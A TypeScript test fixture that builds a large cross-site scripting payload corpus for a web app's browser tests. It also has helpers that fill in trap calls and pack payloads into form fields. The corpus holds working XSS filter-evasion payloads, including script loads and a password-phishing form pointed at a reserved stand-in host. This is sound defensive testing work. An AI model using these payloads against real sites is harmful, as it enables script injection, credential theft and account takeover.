/**
 * The XSS corpus: markup, script and URL tricks a hostile practitioner, client or provider could type into any
 * text the app stores and shows again. Every payload that would run code calls a trap the browser test installs,
 * so "nothing ran" is observed, not assumed:
 *
 * - `__xssHit(n)`: a function the test exposes on every page (Playwright's exposeFunction);
 * - `alert(n)` / `confirm(n)` / `prompt(n)`: caught by the test's dialog listener;
 * - `window.__xss = n`: read back from every page after it has rendered;
 * - `https://xss.invalid/n…`: any request there means markup was injected (an image, a script, a frame, a style).
 *
 * Plain ASCII payloads are also checked in the PDF texts; the unicode ones exercise normalisation and the
 * PDFs' WinAnsi stand-ins.
 */

export type PayloadKind =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'svg-mathml'
  | 'attribute-breakout'
  | 'template-injection'
  | 'css'
  | 'unicode'
  | 'external-resource'
  | 'polyglot';

export interface XssPayload {
  id: number;
  kind: PayloadKind;
  text: string;
}

/** The domain every payload's resources point at: reserved (RFC 2606), never resolves. */
export const TRAP_HOST = 'xss.invalid';
export const TRAP_FUNCTION = '__xssHit';
export const TRAP_FLAG = '__xss';

// Placeholders in the templates: @HIT@ → __xssHit(n), @ALERT@ → alert(n), @FLAG@ → window.__xss=n,
// @N@ → n, @URL@ → https://xss.invalid/n, @B64@ → base64 of "__xssHit(n)", @ENT@ → "__xssHit(n)" as &#..; entities.
const templates: [PayloadKind, string][] = [
  // script elements
  ['script', '<script>@HIT@</script>'],
  ['script', '<SCRIPT>@ALERT@</SCRIPT>'],
  ['script', '<script>@FLAG@</script>'],
  ['script', '<script src="@URL@.js"></script>'],
  ['script', '<scr<script>ipt>@HIT@</scr</script>ipt>'],
  ['script', '<script/xss>@HIT@</script>'],
  ['script', '<script type="module">@HIT@</script>'],
  ['script', '<script>eval(atob("@B64@"))</script>'],
  ['script', '<script>setTimeout("@HIT@")</script>'],
  ['script', '<script>document.write("<img src=x onerror=@HIT@>")</script>'],
  ['script', '</textarea><script>@HIT@</script>'],
  ['script', '</title><script>@HIT@</script>'],
  ['script', '</script><script>@HIT@</script>'],
  ['script', '<!--><script>@HIT@</script>-->'],
  ['script', ']]><script>@HIT@</script>'],
  ['script', '<![CDATA[<script>@HIT@</script>]]>'],
  ['script', '<noscript><p title="</noscript><img src=x onerror=@HIT@>">'],
  ['script', '<iframe srcdoc="<script>parent.@HIT@</script>"></iframe>'],

  // event handlers
  ['event-handler', '<img src=x onerror=@HIT@>'],
  ['event-handler', '<img src="x" onerror="@ALERT@">'],
  ['event-handler', '<IMG SRC=x OnErRoR=@HIT@>'],
  ['event-handler', '<img/src/onerror=@HIT@>'],
  ['event-handler', '<img src=x onerror\t=@HIT@>'],
  ['event-handler', '<img src=x onerror="@ENT@">'],
  ['event-handler', '<img src=x onerror=\\u005f\\u005fxssHit(@N@)>'],
  ['event-handler', "<img src=x onerror=window['__xss'+'Hit'](@N@)>"],
  ['event-handler', '<img src=x onerror=(()=>{@HIT@})()>'],
  ['event-handler', '<img src=x onerror=@HIT@//'],
  ['event-handler', '<body onload=@HIT@>'],
  ['event-handler', '<body onpageshow=@HIT@>'],
  ['event-handler', '<svg onload=@HIT@>'],
  ['event-handler', '<svg/onload=@FLAG@>'],
  ['event-handler', '<input autofocus onfocus=@HIT@>'],
  ['event-handler', '<select autofocus onfocus=@HIT@></select>'],
  ['event-handler', '<textarea autofocus onfocus=@HIT@></textarea>'],
  ['event-handler', '<details open ontoggle=@HIT@>'],
  ['event-handler', '<video><source onerror=@HIT@></video>'],
  ['event-handler', '<audio src=x onerror=@HIT@>'],
  ['event-handler', '<iframe onload=@HIT@></iframe>'],
  ['event-handler', '<marquee onstart=@HIT@>x</marquee>'],
  ['event-handler', '<div onmouseover=@HIT@ style="position:fixed;inset:0">x</div>'],
  ['event-handler', '<object data=x onerror=@HIT@></object>'],
  ['event-handler', '<style onload=@HIT@></style>'],
  ['event-handler', '<link rel=stylesheet href=x onerror=@HIT@>'],
  ['event-handler', '<image src=x onerror=@HIT@>'],
  ['event-handler', '<input type=image src=x onerror=@HIT@>'],
  ['event-handler', '<form><button formaction=javascript:@HIT@>go</button></form>'],
  ['event-handler', '<frameset onload=@HIT@>'],
  ['event-handler', '<p onclick=@ALERT@>click me</p>'],

  // javascript: and data: URLs
  ['javascript-url', 'javascript:@HIT@'],
  ['javascript-url', 'JaVaScRiPt:@ALERT@'],
  ['javascript-url', 'javascript://%0a@HIT@'],
  ['javascript-url', ' javascript:@HIT@'],
  ['javascript-url', 'data:text/html,<script>@HIT@</script>'],
  ['javascript-url', '<a href="javascript:@HIT@">click</a>'],
  ['javascript-url', '<a href="&#106;avascript:@HIT@">click</a>'],
  ['javascript-url', '<a href="java&#x09;script:@HIT@">click</a>'],
  ['javascript-url', '<a href=" javascript:@HIT@">click</a>'],
  ['javascript-url', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>'],
  ['javascript-url', '<iframe src="javascript:@HIT@"></iframe>'],
  ['javascript-url', '<form action="javascript:@HIT@"><input type=submit></form>'],
  ['javascript-url', '<embed src="javascript:@HIT@">'],
  ['javascript-url', '<object data="javascript:@HIT@"></object>'],
  ['javascript-url', '<img src="javascript:@HIT@">'],
  ['javascript-url', '<meta http-equiv="refresh" content="0;url=javascript:@HIT@">'],
  ['javascript-url', '<base href="javascript:@HIT@//">'],
  ['javascript-url', '<a href="vbscript:msgbox(@N@)">click</a>'],
  ['javascript-url', '<table background="javascript:@HIT@">'],
  ['javascript-url', '[click](javascript:@HIT@)'],
  ['javascript-url', '![x](x" onerror="@HIT@)'],
  ['javascript-url', '<javascript:@HIT@>'],

  // SVG and MathML
  ['svg-mathml', '<svg><script>@HIT@</script></svg>'],
  ['svg-mathml', '<svg><script href="@URL@.js"/></svg>'],
  ['svg-mathml', '<svg><a xlink:href="javascript:@HIT@"><text y=20>x</text></a></svg>'],
  ['svg-mathml', '<svg><foreignObject><img src=x onerror=@HIT@></foreignObject></svg>'],
  ['svg-mathml', '<svg><animate onbegin=@HIT@ attributeName=x dur=1s>'],
  ['svg-mathml', '<svg><set onbegin=@HIT@ attributeName=x to=1>'],
  ['svg-mathml', '<svg><animate attributeName=href values=javascript:@HIT@ /><a id=x><text y=20>x</text></a></svg>'],
  ['svg-mathml', '<svg><style><img src=x onerror=@HIT@></style></svg>'],
  ['svg-mathml', '<svg><desc><img src=x onerror=@HIT@></desc></svg>'],
  ['svg-mathml', '<svg><title><style><img src=x onerror=@HIT@>'],
  ['svg-mathml', '<svg><discard onbegin=@HIT@>'],
  ['svg-mathml', '<svg><image href=x onerror=@HIT@ />'],
  ['svg-mathml', '<math><mtext><table><mglyph><style><img src=x onerror=@HIT@>'],
  ['svg-mathml', '<math><maction actiontype=statusline xlink:href=javascript:@HIT@>x</maction></math>'],
  ['svg-mathml', '<math href="javascript:@HIT@">click</math>'],
  ['svg-mathml', '<math><a xlink:href="javascript:@HIT@">click</a></math>'],
  [
    'svg-mathml',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=@HIT@>">',
  ],
  ['svg-mathml', '<noembed><img title="</noembed><img src=x onerror=@HIT@>"></noembed>'],
  ['svg-mathml', '<xmp><img title="</xmp><img src=x onerror=@HIT@>"></xmp>'],

  // attribute breakouts
  ['attribute-breakout', '" onmouseover="@HIT@'],
  ['attribute-breakout', "' onfocus='@HIT@' autofocus='"],
  ['attribute-breakout', '" autofocus onfocus="@HIT@'],
  ['attribute-breakout', '"><img src=x onerror=@HIT@>'],
  ['attribute-breakout', "'><img src=x onerror=@HIT@>"],
  ['attribute-breakout', '`><img src=x onerror=@HIT@>'],
  ['attribute-breakout', '"/><svg onload=@HIT@>'],
  ['attribute-breakout', '</a><img src=x onerror=@HIT@>'],
  ['attribute-breakout', '\\"><img src=x onerror=@HIT@>'],
  ['attribute-breakout', '" href="javascript:@HIT@'],
  ['attribute-breakout', 'x" onerror="@HIT@" src="x'],
  ['attribute-breakout', '" style="background:url(javascript:@HIT@)'],
  ['attribute-breakout', '--><img src=x onerror=@HIT@>'],
  ['attribute-breakout', '</option></select><img src=x onerror=@HIT@>'],

  // template and framework injection
  ['template-injection', "{{constructor.constructor('@HIT@')()}}"],
  ['template-injection', "{{$on.constructor('@HIT@')()}}"],
  ['template-injection', '${@HIT@}'],
  ['template-injection', '#{@HIT@}'],
  ['template-injection', '<%= @HIT@ %>'],
  ['template-injection', '{{= @HIT@ }}'],
  ['template-injection', '[[${@HIT@}]]'],
  ['template-injection', "{@html '<img src=x onerror=@HIT@>'}"],
  ['template-injection', '<div v-html="\'<img src=x onerror=@HIT@>\'"></div>'],
  ['template-injection', '<div ng-app ng-csp><input autofocus ng-focus=$event.view.@HIT@></div>'],
  ['template-injection', "<div dangerouslySetInnerHTML={{__html:'<img src=x onerror=@HIT@>'}}></div>"],
  ['template-injection', '{"__proto__":{"innerHTML":"<img src=x onerror=@HIT@>"}}'],
  ['template-injection', '{{7*7}} ${7*7} <%= 7*7 %>'],

  // CSS
  ['css', '<div style="width:expression(@HIT@)">x</div>'],
  ['css', '<div style="background-image:url(javascript:@HIT@)">x</div>'],
  ['css', "<style>@import 'javascript:@HIT@';</style>"],
  ['css', '<style>@import url(@URL@.css);</style>'],
  ['css', '<style>body{background:url("@URL@.png")}</style>'],
  ['css', '<link rel=stylesheet href="@URL@.css">'],
  ['css', '<div style="behavior:url(@URL@.htc)">x</div>'],
  ['css', '<div style="-moz-binding:url(@URL@.xml#xss)">x</div>'],
  ['css', '<x style="x:\\65xpression(@HIT@)">'],
  ['css', 'red;background:url(@URL@.png)'],
  ['css', '</style><img src=x onerror=@HIT@>'],

  // unicode and encoding tricks
  ['unicode', '＜script＞@HIT@＜/script＞'],
  ['unicode', '\\u003cscript\\u003e@HIT@\\u003c/script\\u003e'],
  ['unicode', '%3Cscript%3E@HIT@%3C/script%3E'],
  ['unicode', '&lt;script&gt;@HIT@&lt;/script&gt;'],
  ['unicode', '&#60;script&#62;@HIT@&#60;/script&#62;'],
  ['unicode', '<scr\u200bipt>@HIT@</scr\u200bipt>'],
  ['unicode', '<a href="java\u200dscript:@HIT@">click</a>'],
  ['unicode', '\u202e>tpircs/<@HIT@>tpircs<'],
  ['unicode', '<img src=x onerror=@HIT@\u2028>'],
  ['unicode', '<ſcript>@HIT@</ſcript>'],
  ['unicode', '<ıframe src=javascript:@HIT@>'],
  ['unicode', '<ѕcript>@HIT@</ѕcript>'],
  ['unicode', '¼script¾@HIT@¼/script¾'],
  ['unicode', '+ADw-script+AD4-@HIT@+ADw-/script+AD4-'],
  ['unicode', '%C0%BCscript%C0%BE@HIT@%C0%BC/script%C0%BE'],
  ['unicode', '\ufeff<script>@HIT@</script>'],
  ['unicode', '🍎<img src=x onerror=@HIT@>🍐'],
  ['unicode', '<img src=x onerror=@HIT@>\u0338'],

  // markup that would reach out to another site (the request itself is the finding)
  ['external-resource', '<img src="@URL@.png">'],
  ['external-resource', '<iframe src="@URL@"></iframe>'],
  ['external-resource', '<object data="@URL@.swf"></object>'],
  ['external-resource', '<embed src="@URL@.swf">'],
  ['external-resource', '<base href="@URL@/">'],
  ['external-resource', '<meta http-equiv="refresh" content="0;url=@URL@">'],
  ['external-resource', '<a href="@URL@" target=_blank>phish</a>'],
  ['external-resource', '<form action=@URL@><input name=password></form>'],
  ['external-resource', '<video poster="@URL@.jpg"></video>'],

  // polyglots and other contexts
  [
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=@HIT@ )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=@HIT@//>\\x3e',
  ],
  ['polyglot', '\'"--></style></script><svg onload=@HIT@>'],
  ['polyglot', '"\'><img src=x onerror=@HIT@><"\''],
  ['polyglot', '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=@HIT@>">]>&x;'],
  ['polyglot', '<?xml version="1.0"?><script>@HIT@</script>'],
  ['polyglot', ') /S /JavaScript /JS (app.alert(@N@)'],
  ['polyglot', '=HYPERLINK("@URL@","click")'],
];

function fill(template: string, id: number): string {
  const call = `${TRAP_FUNCTION}(${id})`;
  const entities = [...call].map((char) => `&#${char.charCodeAt(0)};`).join('');
  return template
    .replaceAll('@HIT@', call)
    .replaceAll('@ALERT@', `alert(${id})`)
    .replaceAll('@FLAG@', `window.${TRAP_FLAG}=${id}`)
    .replaceAll('@URL@', `https://${TRAP_HOST}/${id}`)
    .replaceAll('@B64@', Buffer.from(call).toString('base64'))
    .replaceAll('@ENT@', entities)
    .replaceAll('@N@', String(id));
}

export const xssPayloads: readonly XssPayload[] = templates.map(([kind, template], index) => ({
  id: index + 1,
  kind,
  text: fill(template, index + 1),
}));

/** Payloads of printable ASCII only: what the PDFs must show character for character. */
export const asciiPayloads = xssPayloads.filter((payload) => /^[\x20-\x7e]+$/.test(payload.text));

/**
 * Payloads packed into one value of at most `max` characters, starting at payload `from` (wrapping around),
 * separated by `separator`. Answers the text and how many payloads it holds.
 */
export function packPayloads(
  max: number,
  from = 0,
  separator = '\n',
  pool: readonly XssPayload[] = xssPayloads,
): { text: string; count: number } {
  const parts: string[] = [];
  let length = 0;
  for (let step = 0; step < pool.length; step += 1) {
    const text = pool[(from + step) % pool.length].text;
    const added = (parts.length ? separator.length : 0) + text.length;
    if (text.length > max) continue;
    if (length + added > max) break;
    parts.push(text);
    length += added;
  }
  return { text: parts.join(separator), count: parts.length };
}

/** Up to `count` single payloads of at most `max` characters each, from payload `from` on: for list fields. */
export function payloadList(count: number, max: number, from = 0, pool: readonly XssPayload[] = xssPayloads): string[] {
  const list: string[] = [];
  for (let step = 0; step < pool.length && list.length < count; step += 1) {
    const text = pool[(from + step) % pool.length].text;
    if (text.trim().length > 0 && text.length <= max) list.push(text);
  }
  return list;
}
